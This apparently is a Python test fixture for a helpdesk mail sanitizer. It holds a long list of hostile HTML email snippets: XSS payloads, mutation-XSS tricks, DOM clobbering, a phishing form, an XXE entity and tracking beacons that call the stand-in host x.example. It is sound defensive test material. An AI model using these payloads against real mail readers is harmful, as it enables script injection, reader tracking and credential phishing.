"""Letters that attack who reads them: each line is the HTML of a mail, or a piece of one.

Kinds of attacks after the cheat sheets of OWASP and PortSwigger and what is known of mail readers: mutations between
cleaner and browser, foreign elements, frames and forms, styles that load, move or hide, names that shadow the page.
Each tells of itself by alert() or fetches from //x.example.
"""

from helpdesk.tests.payloads import PAYLOADS

IN_MAIL = r"""
<style>body{background:url(//x.example/a.png)}</style>
<style>@import url(//x.example/b.css);</style>
<style>a[href^="https"]{background:url(//x.example/c.png)}</style>
<style nonce="x">*{color:red}</style>
<style></style><style>/*</style><img src=x onerror=alert(1)>*/</style>
<p style="font-family:'</style><script>alert(1)</script>'">x</p>
<p style='font-family:"}*{background:url(//x.example/d.png)}"'>x</p>
<p style="color:red;}</style><img src=x onerror=alert(1)>">x</p>
<p style="background-image:\75 rl(//x.example/e.png)">x</p>
<p style="background:image-set('//x.example/f.png' 1x)">x</p>
<p style="list-style-image:url(//x.example/g.png)">x</p>
<p style="content:url(//x.example/h.png)">x</p>
<p style="cursor:url(//x.example/i.cur),auto">x</p>
<p style="--x:url(//x.example/j.png);background:var(--x)">x</p>
<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(//x.example/k.xml#x)">x</p>
<div style="position:fixed;inset:0;z-index:9999">x</div>
<div style="animation:x 1s" onanimationstart=alert(1)>x</div>
<div style="transition:all 1s" ontransitionend=alert(1)>x</div>
<table background="//x.example/l.png"><tr><td background="//x.example/m.png">x</td></tr></table>
<body background="//x.example/n.png">
<img src="//x.example/o.png" srcset="//x.example/o2.png 2x">
<img src="https://x.example/p.png" width=1 height=1>
<img lowsrc="//x.example/q.png" dynsrc="//x.example/r.png">
<img src="cid:x&quot; onerror=&quot;alert(1)">
<img src="cid:&#x22;onerror=alert(1)">
<img data-remote-src="https://x.example/s.png&quot; onerror=&quot;alert(1)">
<img data-remote-src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>">
<img src="data:text/html,<script>alert(1)</script>">
<picture><source srcset="//x.example/t.png"><img src="//x.example/u.png"></picture>
<input type=image src=//x.example/v.png>
<video poster=//x.example/w.png src=//x.example/w.mp4 autoplay></video>
<audio autoplay src=//x.example/y.mp3></audio>
<bgsound src=//x.example/z.wav>
<link rel=stylesheet href=//x.example/aa.css><link rel=dns-prefetch href=//x.example/>
<link rel=prefetch href=//x.example/ab><link rel=icon href=//x.example/ac.ico>
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base target="_top" href="//x.example/">
<frameset><frame src=javascript:alert(1)></frameset>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src="//x.example/ad" sandbox="allow-scripts allow-same-origin"></iframe>
<portal src=//x.example/></portal><fencedframe src=//x.example/></fencedframe>
<form action="//x.example/"><button>Sign in</button></form><button form=x formaction=//x.example/>x</button>
<form id=body><input name=nonce></form><a id=document name=cookie>x</a>
<div id=conversation class="message-body btn btn-primary" name=alert>x</div>
<details open ontoggle=alert(1)><summary onfocus=alert(1) autofocus>x</summary></details>
<a href="https://bank.example@x.example/">https://bank.example/</a>
<a href="JaVaScRiPt&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a> <a href="livescript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://x.example/1">x</a> <a href="file:///etc/passwd">x</a> <a href="view-source:x">x</a>
<a href="https://x.example/" target=_top ping=//x.example/ping download>x</a>
<a href=https://x.example/"onmouseover=alert(1)>x</a>
<a href='https://x.example/'title='x"onfocus=alert(1) autofocus'>x</a>
<area shape=default href=javascript:alert(1)><map name=x><area href=javascript:alert(1)></map>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><image href=//x.example/ae.png /><feImage href=//x.example/af.svg /></svg>
<svg><set attributeName=href to=javascript:alert(1) /></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><b><svg><style><!--</style></svg></b><img src=x onerror=alert(1)>--></style></desc></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><mi><table><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mi></math>
<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>
<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]--><!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>
<?xml-stylesheet href="//x.example/ag.xsl"?><![CDATA[<img src=x onerror=alert(1)>]]>
<!DOCTYPE html [<!ENTITY x SYSTEM "//x.example/ah">]><p>&x;</p>
<table><caption><svg><style><p title="</style><img src=x onerror=alert(1)>">
<select><option><style></option></select><img src=x onerror=alert(1)></style></select>
<p><b><p></b><a><p></a><table><tr><b><img src=x onerror=alert(1)></table>
<isindex type=image src=//x.example/ai.png action=javascript:alert(1)>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<o:p onclick=alert(1)>x</o:p><v:rect style="behavior:url(#default#VML)"><v:fill src=//x.example/aj.png></v:rect>
<applet code=x codebase=//x.example/></applet><keygen autofocus onfocus=alert(1)>
<object type="text/x-scriptlet" data="//x.example/ak"></object>
<a href="mailto:a@b?subject=x%0d%0aBcc:c@d">x</a> <a href="tel:1" onclick=alert(1)>x</a>
<summary>…</summary><summary>--</summary><details><summary>…</summary><script>alert(1)</script></details>
<div class="gmail_quote" onmouseover=alert(1)><blockquote type=cite style="x:expression(alert(1))">x
<p dir="rtl&quot;onclick=alert(1)" lang="x&quot; onclick=alert(1)">x</p>
<font face="x&quot;onclick=alert(1)" color="red;background:url(//x.example/al.png)">x</font>
<td nowrap onclick=alert(1)>x</td><li value=1 type=javascript:alert(1)>x</li>
""".strip().splitlines()

HOSTILE_MAIL = [*IN_MAIL, *PAYLOADS]
